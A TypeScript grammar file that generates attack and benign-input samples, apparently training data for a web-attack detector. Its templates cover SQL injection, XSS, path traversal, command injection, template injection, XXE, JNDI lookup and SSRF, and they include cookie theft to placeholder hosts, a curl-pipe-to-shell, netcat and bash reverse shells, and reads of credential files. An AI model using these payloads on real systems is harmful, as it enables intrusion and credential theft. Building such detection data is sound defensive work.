/** The grammar from which training payloads are put together. `{name}` is a piece, `{n}` a number, `{w}` letters, `{o}` and `{c}` braces. */

/** Between patterns stands a broken bar; blanks around it and line ends after it are not of the pattern. */
const listed = (text: string): readonly string[] => text.split(/ ¦[ \n]/);

export const PIECES: Readonly<Record<string, readonly string[]>> = {
  q: listed(`' ¦ ' ¦ " ¦ ') ¦ ") ¦ ')) ¦  ¦ )`),
  end: listed(`-- ¦ --  ¦ # ¦ /* ¦ -- {w} ¦ ;-- ¦  ¦  or '1'='1`),
  op: listed(`and ¦ or ¦ and ¦ or ¦ xor ¦ || ¦ &&`),
  same: listed(
    `{n}={n} ¦ 1=1 ¦ '{w}'='{w}' ¦ 'a'='a ¦ 2>1 ¦ {n} between 0 and {n} ¦ '{w}' like '{w}' ¦ true ¦ not 0 ¦ 1 in (1,2)`,
  ),
  col: listed(`* ¦ null ¦ {w} ¦ null,null ¦ {n},{n},{n} ¦ concat({w},0x3a,{w}) ¦ version() ¦ user() ¦ @@version ¦ group_concat({w}) ¦
char({n},{n}) ¦ username,password`),
  table:
    listed(`{w} ¦ users ¦ information_schema.tables ¦ information_schema.columns ¦ sysobjects ¦ pg_catalog.pg_tables ¦ dual ¦
mysql.user ¦ admin`),
  wait: listed(`sleep({n}) ¦ benchmark({n},md5({n})) ¦ pg_sleep({n}) ¦ waitfor delay '0:0:{n}' ¦ dbms_pipe.receive_message('{w}',{n}) ¦
(select count(*) from {table} a, {table} b)`),
  first: listed(`{n} ¦ {w} ¦  ¦ -{n} ¦ 1 ¦ x`),
  js: listed(`alert({n}) ¦ alert('{w}') ¦ alert(document.cookie) ¦ prompt(1) ¦ confirm({n}) ¦ eval(atob('{w}')) ¦
document.location='//{w}.test/'+document.cookie ¦ fetch('//{w}.test') ¦ alert\`1\` ¦ window['al'+'ert'](1) ¦ (alert)(1) ¦
import('//{w}.test')`),
  on: listed(
    `onload ¦ onerror ¦ onclick ¦ onmouseover ¦ onfocus ¦ ontoggle ¦ onanimationend ¦ onpointerenter ¦ onstart`,
  ),
  tag: listed(`img src=x ¦ svg ¦ body ¦ video src={w} ¦ iframe ¦ input autofocus ¦ details open ¦ marquee ¦ audio src=1 ¦ object ¦
embed ¦ math ¦ a href=# ¦ div ¦ button`),
  up: listed(`../ ¦ ../../ ¦ ../../../ ¦ ../../../../../ ¦ ..\\..\\ ¦ ....//....// ¦ ..;/..;/ ¦ /../../ ¦ ..%2f..%2f ¦ ..././..././ ¦
..//..//../`),
  file: listed(`etc/passwd ¦ etc/shadow ¦ etc/hosts ¦ windows/win.ini ¦ boot.ini ¦ proc/self/environ ¦ var/log/auth.log ¦ web.config ¦
WEB-INF/web.xml ¦ .env ¦ .git/config ¦ wp-config.php ¦ config.php ¦ .ssh/id_rsa ¦ app/settings.py ¦ {w}/{w}.conf`),
  sep: listed(`; ¦ | ¦ || ¦ && ¦ & ¦ ;  ¦ |  ¦  &&  ¦ \n ¦ \` ¦ $(`),
  cmd: listed(`id ¦ whoami ¦ cat /etc/passwd ¦ ls -la ¦ uname -a ¦ ping -c {n} 127.0.0.1 ¦ sleep {n} ¦ wget http://{w}.test/{w} ¦
curl http://{w}.test/|sh ¦ nc -e /bin/sh 10.0.0.1 {n} ¦ dir c:\\ ¦ type c:\\windows\\win.ini ¦ net user ¦
powershell -enc {w} ¦ bash -i ¦ /bin/sleep {n} ¦ /usr/bin/id ¦ nslookup {w}.test ¦ python -c 'import os' ¦ echo {w} ¦
rm -rf /tmp/{w} ¦ ifconfig ¦ netstat -an ¦ ps aux ¦ ipconfig /all`),
  jndi: listed(
    `jndi ¦ \${o}lower:j{c}ndi ¦ \${o}::-j{c}\${o}::-n{c}\${o}::-d{c}i ¦ j\${o}upper:n{c}di ¦ \${o}env:X:-j{c}ndi`,
  ),
  inner:
    listed(`127.0.0.1 ¦ localhost ¦ 169.254.169.254 ¦ 10.0.0.{n} ¦ 192.168.1.1 ¦ [::1] ¦ 0.0.0.0 ¦ 2130706433 ¦ 0x7f000001 ¦
metadata.google.internal ¦ {w}.internal ¦ 172.16.0.1`),
  join: listed(`and ¦ or ¦ but ¦ & ¦ && ¦ || ¦ ; ¦ -- ¦ - ¦ | ¦ not ¦ and not ¦ or else`),
  clause:
    listed(`{w} {w} {w} ¦ "{w}" ¦ '{w}' ¦ "{w} {w}" {w} ¦ '{w}' {w} ¦ {n} < {n} ¦ {w} >= {n} ¦ {w} <= {n} ¦ {n} > {n} ¦
{w} = {n} ¦ it's {w} ¦ can't {w} {w} ¦ you're {w} ¦ they'll {w} ¦ ({w} {w}) ¦ he said "it's {w}" ¦ ~/{w}.txt ¦ /{w}/{w} ¦
the {noun} ¦ a {noun} ¦ {name} ¦ {name}'s {w} ¦ {n}% off ¦ {verb} a {noun} ¦ {verb} the {noun} by {n} ¦ "{noun}" ¦ '{noun}' ¦ {w}!`),
  name: listed(`Anna ¦ Peter O'Brien ¦ D'Angelo ¦ Maria ¦ José ¦ Zoë ¦ Müller ¦ Nguyễn ¦ Smith ¦ van der Berg ¦ Jean-Luc ¦ O'Neill ¦
L'Oréal ¦ McDonald's ¦ Al-Sayed ¦ Ødegård ¦ 李雷 ¦ Ивана ¦ N'Golo ¦ d'Arc`),
  noun: listed(`shoes ¦ select committee ¦ union square ¦ drop table lamp ¦ order by phone ¦ cat food ¦ script font ¦ garden table ¦
insert sleeve ¦ where clause ¦ group buy ¦ update news ¦ delete account ¦ cast iron pan ¦ white house ¦ head office ¦
echo dot ¦ ping pong table ¦ sleep mask ¦ find friends ¦ host city ¦ image gallery ¦ style guide ¦ char grill ¦ id card ¦
netcat tutorial ¦ alert system ¦ etc ¦ command line ¦ root vegetables`),
  verb: listed(`select ¦ find ¦ order ¦ show ¦ compare ¦ update ¦ insert ¦ join ¦ drop ¦ grant ¦ like ¦ sort ¦ cut`),
};

export const ATTACKS: Readonly<Record<string, readonly string[]>> = {
  sqli: listed(`{first} union select {w},{w} from {w} ¦ {first} union select {w},{w},{n} from {table}{end} ¦ {first} {op} {wait} ¦ {first} {op} {wait}{end} ¦
{first}{q} {op} {same}{end} ¦ {first}{q} {op} {same}{end} ¦ {first}{q} union select {col} from {table}{end} ¦
{first}{q} union all select {col}{end} ¦ {first}{q} {op} {wait}{end} ¦ {first}{q}; {wait}{end} ¦
{first}{q};drop table {w}{end} ¦ {first}; insert into {w} values('{w}'){end} ¦ {first}'; exec xp_cmdshell('{w}')-- ¦
(select {col} from {table}) ¦ {first}{q} and (select {col} from {table} limit 1)={n}{end} ¦
{n} and extractvalue({n},concat(0x7e,{w})) ¦ {first}{q} order by {n}{end} ¦ admin'-- ¦ {w}' # ¦ {w}'/* ¦
{first}{q} and if({same},{wait},0){end} ¦ {n}-(case when {same} then 1 else 0 end) ¦ {first}'||(select '{w}')||' ¦
{first}{q} having {same}{end} ¦ {first}{q} {op} ascii(substring((select {w} from {table}),{n},1))>{n}{end} ¦
{first} procedure analyse(extractvalue({n},0x{n}),1) ¦ '=' ¦ ' or ''=' ¦ {n}' and {n}={n} and '{w}'='{w} ¦
{n} rlike (select {n})`),
  xss: listed(`<script>{js}</script> ¦ "><script>{js}</script> ¦ '><script src=//{w}.test/{w}.js></script> ¦ <{tag} {on}={js}> ¦
"><{tag} {on}="{js}"> ¦ <{tag}/{on}={js}// ¦ " {on}="{js} ¦ ' {on}='{js}' x=' ¦ javascript:{js} ¦
<a href=javascript:{js}>{w}</a> ¦ <iframe src=javascript:{js}> ¦ '-{js}-' ¦ ';{js}// ¦ ";{js};" ¦
</script><script>{js}</script> ¦ <style>@import'//{w}.test'</style> ¦ <div style=width:expression({js})> ¦
<meta http-equiv=refresh content='0;url=javascript:{js}'> ¦ data:text/html,<script>{js}</script> ¦
<base href=//{w}.test> ¦ <form action=javascript:{js}><input type=submit> ¦ </title><{tag} {on}={js}>`),
  "path-traversal":
    listed(`{up}{up}{file} ¦ {up}{file} ¦ /{up}{up}{up}{file} ¦ {up}{up}{file}%00.jpg ¦ {w}/{up}{file} ¦ /{file} ¦ /etc/passwd ¦
c:\\windows\\win.ini ¦ c:/boot.ini ¦ file:///etc/passwd ¦ php://filter/convert.base64-encode/resource={w}.php ¦
php://input ¦ {up}{up}{up}{w}.{w} ¦ /proc/self/environ ¦ /var/log/apache2/access.log ¦ {up}{up} ¦ \\..\\..\\{w} ¦
zip://{w}.zip#{w}.php ¦ /%2e%2e/%2e%2e/{file}`),
  cmdi: listed(`{first}{sep}{cmd} ¦ {first}{sep}{cmd} ¦ {first}{sep}{cmd}{sep} ¦ $({cmd}) ¦ \`{cmd}\` ¦ {first};{cmd}; ¦ {first}|{cmd} ¦
'{sep}{cmd}{sep}' ¦ {first}%0a{cmd} ¦ cat\${o}IFS{c}/etc/passwd ¦ {w};{cmd} # ¦ ;system('{cmd}') ¦
<?php system('{cmd}');?> ¦ () {o} :;{c}; /bin/bash -c '{cmd}' ¦ {first}; bash -i >& /dev/tcp/10.0.0.1/{n} 0>&1 ¦
<!--#exec cmd="{cmd}"--> ¦ {first}&{cmd}& ¦ {cmd}|{cmd} ¦ /bin/cat /etc/passwd ¦ ping -n {n} 127.0.0.1`),
  template:
    listed(`{o}{o}{n}*{n}{c}{c} ¦ {o}{o}config{c}{c} ¦ {o}{o}''.__class__.__mro__[1].__subclasses__(){c}{c} ¦ \${o}{n}*{n}{c} ¦
<%= {n}*{n} %> ¦ #{o}{n}*{n}{c} ¦ \${o}T(java.lang.Runtime).getRuntime().exec('{w}'){c} ¦
{o}{o}self._{w}.__globals__{c}{c} ¦ {o}% for x in ().__class__.__base__.__subclasses__() %{c} ¦
<#assign ex="freemarker.template.utility.Execute"?new()>\${o}ex('{cmd}'){c} ¦ *{o}{n}*{n}{c} ¦
{o}{o}request|attr('{w}'){c}{c}`),
  xxe: listed(`<?xml version="1.0"?><!DOCTYPE {w} [<!ENTITY {w} SYSTEM "file:///{file}">]><{w}>&{w};</{w}> ¦
<!DOCTYPE {w} SYSTEM "http://{w}.test/{w}.dtd"> ¦ <!DOCTYPE a [<!ENTITY % {w} SYSTEM "http://{inner}/">%{w};]> ¦
<{w} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///{file}"/></{w}> ¦
<!ENTITY {w} "{w}">`),
  lookup:
    listed(`\${o}{jndi}:ldap://{w}.test/{w}{c} ¦ \${o}{jndi}:rmi://{inner}:{n}/{w}{c} ¦ \${o}{jndi}:dns://{w}.test{c} ¦
{w} \${o}{jndi}:ldaps://{w}.test/a{c}`),
  ssrf: listed(`http://{inner}/ ¦ http://{inner}:{n}/{w} ¦ https://{inner}/{w} ¦
http://{inner}/latest/meta-data/iam/security-credentials/ ¦ gopher://{inner}:{n}/_{w} ¦ dict://{inner}:{n}/info ¦
http://{w}@{inner}/ ¦ //{inner}/{w} ¦ http://{inner}/computeMetadata/v1/`),
};

export const ORDINARY: readonly string[] =
  listed(`{name} ¦ {name} ¦ {name} {name} ¦ {n} ¦ {n} ¦ {w} ¦ {w}{n} ¦ {w} {w} ¦ {w}@{w}.com ¦ {w}.{w}@{w}.co.uk ¦ {noun} ¦ {noun} ¦
{name}'s {noun} ¦ the {noun} and the {noun} ¦ {n}-{n}-{n} ¦ +{n} {n} {n} ¦ 2024-{n}-{n}T{n}:{n}:00Z ¦ {n}.{n}.{n} ¦
\${n}.99 ¦ {n}% ¦ {w}-{w}-{w} ¦ {w}_{w} ¦ /{w}/{w} ¦ /{w}/{w}.html ¦ {w}/{w}/{w}.png ¦ {w}.pdf ¦
C:\\Users\\{w}\\{w}.docx ¦ https://{w}.com/{w}?{w}={n} ¦ https://www.{w}.org/ ¦ http://{w}.{w}.com/{w}/{w}.php ¦
{o}"{w}":"{w}","{w}":{n}{c} ¦ {o}"filter":{o}"{w}":["{w}","{w}"]{c}{c} ¦ [{n},{n},{n}] ¦ a={w}&b={n} ¦ {w}:{w},{w}:{n} ¦
{w};q=0.{n} ¦ {n},{n} ¦ ({n}) {n} ¦ #{w} ¦ @{w} ¦ {w} & {w} ¦ {w} + {w} ¦ {w} | {w} ¦ {w} / {w} ¦ <{n} ¦ > {n} {w} ¦
{n} < {n} ¦ {w} (new) ¦ "{noun}" ¦ '{noun}' ¦ rock 'n' roll ¦ it's {w} ¦ don't {w} or {w} ¦
how to {verb} from a table where id is null ¦ {verb} a {noun} from the {noun} ¦ please {verb} your {noun} by {n} or call ¦
{noun} union and {noun} ¦ select your {noun} from our list ¦ drop the {noun} and insert a {w} ¦ 1 and 2 or 3 ¦
{w} or {w} ¦ {w} and {w}={n} ¦ order by {noun} ¦ not {w} and not {w} ¦ having fun ¦ sleep ({n} hours) ¦ count({w}) ¦
sum(a1:b{n}) ¦ =sum({w}{n}) ¦
Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{n}.0.0.0 Safari/537.36 ¦
Mozilla/5.0 (compatible; {w}bot/2.1; +http://www.{w}.com/bot.html) ¦ curl/8.{n}.0 ¦ python-requests/2.{n} ¦
{w}/{n}.{n} ({w}; {w} {n}; en-US) ¦ okhttp/4.{n} ¦
Mozilla/5.0 (iPhone; CPU iPhone OS {n}_{n} like Mac OS X) AppleWebKit/605.1.15 ¦ if (a < b && c > d) return {w}; ¦
for (let i = 0; i < {n}; i++) ¦ const {w} = {n}; ¦ function {w}({w}) {o} return {w}; {c} ¦ <b>{w}</b> ¦ <p>{noun}</p> ¦
a <- {w} ¦ x != {n} ¦ git commit -m '{w}' ¦ npm install {w} ¦ {w}() returns {w} ¦ how do I use alert in javascript ¦
{o}{o}{w}{c}{c} ¦ {o}{w}{c} ¦ \${o}{w}{c} ¦ python {w} list comprehension ¦ c# {w} vs c++ {w} ¦ cat {w} ¦ id {n} ¦
top {n} {noun} ¦ ping {w} ¦ find {w} near me ¦ echo {n} ¦ {w}{n}{w}{n} ¦ eyJ{w}{n}.{w}{n} ¦ {w}=={n} ¦ sid={w}{n}|{w} ¦
{n}|{n}|{n} ¦ utm_{w} ¦ asc ¦ desc ¦ true ¦ false ¦ null ¦ en-US,en;q=0.9 ¦ text/html,application/xhtml+xml ¦ {n}px ¦
rgb({n},{n},{n}) ¦ {w}[] ¦ {w}[{n}] ¦ .. ¦ . ¦ - ¦ * ¦ {w}* ¦ ? ¦ {w}? ¦ ({w} OR {w}) AND {w} ¦ {w}:* ¦
title:"{noun}" AND year:{n} ¦ {name} & {name}, {n} ¦ Calle {w} {n}, {n}ºB ¦ c/ {w} s/n ¦
{clause} {join} {clause} ¦ {clause} {join} {clause} {join} {clause} ¦ {clause}; {clause} ¦ {clause} -- {clause} ¦ {clause}, {clause} {clause} ¦
{clause} {clause} ¦ {clause} {join} {clause}, {clause} ¦ {clause}: {clause} ¦ {clause} {clause} {join} {clause} {clause} ¦ {clause} {join} {clause} ¦
{clause} ¦ {clause}? ¦ ../{w}/{w}.css ¦ ../{w} ¦ ./{w}/{w}.js ¦
../{w}.html ¦ ../../{w}/{w}.png ¦ {w}'); {w} ¦ ({w}, '{w}') ¦ {w}('{w}') ¦
{w}("{w}", {n})`);
